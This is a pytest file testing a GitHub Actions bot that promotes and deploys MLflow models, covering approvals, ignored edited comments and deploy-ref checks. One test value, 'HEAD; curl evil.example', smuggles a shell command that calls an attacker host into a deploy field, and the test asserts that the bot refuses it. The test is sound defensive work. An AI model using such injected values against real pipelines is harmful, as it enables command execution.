"""The promotion handlers behind `modelbot action`, fed the webhook payloads localhub emits for what people
do, with the environment GitHub Actions sets: comment -> PR and report; review -> approvals; edits ignored."""

import json
import os

import pytest
from sklearn.linear_model import Ridge

from bot.actions import run
from bot.actions.runtime import Runtime
from localhub.actions.outputs import read_outputs
from tests.flows.test_validate_pr import approvals_check
from tests.support.localhub import git
from tests.support.mlflow_models import MlflowStore, dataset


@pytest.fixture
def actions_env(hub, tmp_path, monkeypatch):
    """What GitHub Actions hands the step; the workspace is a clone of the default branch."""
    workspace = tmp_path / "workspace"
    git(tmp_path, "clone", "-q", hub.hub.clone_url(), str(workspace))
    env = {
        **hub.bot_env(),
        "GITHUB_WORKSPACE": str(workspace),
        "GITHUB_SERVER_URL": hub.url,
        "GITHUB_RUN_ID": "7",
        "GITHUB_ACTIONS": "true",
        "RUNNER_TEMP": str(tmp_path / "runner-temp"),
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    return env


def deliver(hub, tmp_path, event):
    """The latest webhook payload of `event`, handed to the entrypoint as GITHUB_EVENT_PATH."""
    delivery = next(d for d in reversed(hub.hub.deliveries) if d.event == event)
    path = tmp_path / f"{event}-{delivery.id}.json"
    path.write_text(json.dumps(delivery.payload))
    return run(
        Runtime.from_env({**__import__("os").environ, "GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(path)})
    )


def test_a_promote_comment_opens_and_validates_the_pr(hub, actions_env, tmp_path, diabetes_v1):
    number = hub.hub.as_user("dana-ds").open_issue("Promotions")
    hub.hub.as_user("lena-ml").comment(number, "/promote diabetes-progression 1 to production")
    result = deliver(hub, tmp_path, "issue_comment")
    assert result.handled and result.outputs["result"] == "done", result.message
    pulls = hub.request("GET", "/repos/acme/models/pulls", "pat-platform")[2]
    assert [p["title"] for p in pulls] == ["Promote diabetes-progression 1 to production"]
    assert approvals_check(hub, pulls[0]["head"]["sha"]) == ("pending", "ml-lead 0/1, risk 0/1")
    assert "Opened #" in (tmp_path / "summary").read_text()
    assert read_outputs((tmp_path / "output").read_text())["result"] == "done"


def test_a_review_event_moves_the_approvals(hub, actions_env, tmp_path, diabetes_v1):
    number = hub.hub.as_user("dana-ds").open_issue("Promotions")
    hub.hub.as_user("lena-ml").comment(number, "/promote diabetes-progression 1 to production")
    deliver(hub, tmp_path, "issue_comment")
    pull = hub.request("GET", "/repos/acme/models/pulls", "pat-platform")[2][0]
    hub.hub.as_user("rita-risk").review(pull["number"], "APPROVE")
    result = deliver(hub, tmp_path, "pull_request_review")
    assert result.outputs["result"] == "pending"
    assert approvals_check(hub, pull["head"]["sha"]) == ("pending", "ml-lead 0/1, risk 1/1")


def test_an_edited_comment_never_fires_a_command(hub, actions_env, tmp_path):
    number = hub.hub.as_user("dana-ds").open_issue("Promotions")
    posted = hub.hub.as_user("lena-ml").comment(number, "thanks")
    hub.hub.as_user("lena-ml").edit_comment(posted.id, "/promote diabetes-progression 1 to production")
    mark = hub.log.mark()
    result = deliver(hub, tmp_path, "issue_comment")
    assert not result.handled and "issue_comment.edited" in result.message
    assert hub.log.since(mark) == []


def test_a_scheduled_run_opens_one_registration_pr_for_what_mlflow_has(
    hub, actions_env, tmp_path, diabetes_v1, monkeypatch
):
    store = MlflowStore(tmp_path / "mlflow")
    store.register("diabetes-progression", Ridge(alpha=0.5), dataset("regression"))  # version 2, not listed yet
    monkeypatch.setenv("MLFLOW_TRACKING_URI", store.tracking_uri)
    path = tmp_path / "schedule.json"
    path.write_text(json.dumps({"schedule": "17 6 * * 1-5"}))
    result = run(Runtime.from_env({**os.environ, "GITHUB_EVENT_NAME": "schedule", "GITHUB_EVENT_PATH": str(path)}))
    assert result.handled and result.outputs["result"] == "opened", result.message
    pulls = hub.request("GET", "/repos/acme/models/pulls", "pat-platform")[2]
    assert [p["title"] for p in pulls] == ["Register 1 model version(s) from MLflow"]


@pytest.mark.parametrize("ref, after, says", [
    ("refs/heads/main", "HEAD; curl evil.example", "`after` must be a full commit sha"),
    ("refs/heads/main", "branch-only", "is not a commit of main"),
    ("refs/heads/feature", "main", "deploys run on main only"),
])
def test_a_dispatched_deploy_runs_only_a_commit_of_the_default_branch(hub, actions_env, tmp_path, ref, after, says):
    from localhub.rest import webhooks

    if after in ("branch-only", "main"):
        pushed = hub.hub.as_user("lena-ml").push("feature", {"notes.txt": "x"}, "Not merged")
        after = pushed if after == "branch-only" else hub.hub.git.resolve_commit("refs/heads/main")
    payload = webhooks.workflow_dispatch(hub.hub, ref, ".github/workflows/modelbot-deploy.yml",
                                         {"task": "deploy", "after": after}, "pat-platform")
    path = tmp_path / "dispatch.json"
    path.write_text(json.dumps(payload))
    mark = hub.log.mark()

    result = run(Runtime.from_env({**os.environ, "GITHUB_EVENT_NAME": "workflow_dispatch",
                                   "GITHUB_EVENT_PATH": str(path)}))

    assert result.outputs["result"] == "refused" and says in result.message, result.message
    assert hub.log.since(mark) == []  # refused before any request


def test_a_push_on_top_of_a_promotion_launders_no_one_s_approval(hub, actions_env, tmp_path, diabetes_v1):
    """lena asks for the promotion; wes pushes a trivial commit on the bot's branch; lena approves the new head:
    her approval still does not count (the bot carries its record from the head the push replaced)."""
    number = hub.hub.as_user("dana-ds").open_issue("Promotions")
    hub.hub.as_user("lena-ml").comment(number, "/promote diabetes-progression 1 to production")
    deliver(hub, tmp_path, "issue_comment")
    pull = hub.request("GET", "/repos/acme/models/pulls", "pat-platform")[2][0]
    text = hub.forge().file_text("models.yaml", pull["head"]["sha"])
    hub.hub.as_user("wes-writer").push(pull["head"]["ref"], {"models.yaml": text.replace("Ridge regression.",
                                                                                          "Ridge.")}, "tweak")
    result = deliver(hub, tmp_path, "pull_request")
    assert result.handled, result.message
    head = hub.request("GET", f"/repos/acme/models/pulls/{pull['number']}", "pat-platform")[2]["head"]["sha"]
    assert head != pull["head"]["sha"]
    for reviewer in ("lena-ml", "rita-risk"):
        hub.hub.as_user(reviewer).review(pull["number"], "APPROVE")
    result = deliver(hub, tmp_path, "pull_request_review")
    assert result.outputs["result"] == "pending"
    assert approvals_check(hub, head) == ("pending", "ml-lead 0/1, risk 1/1")
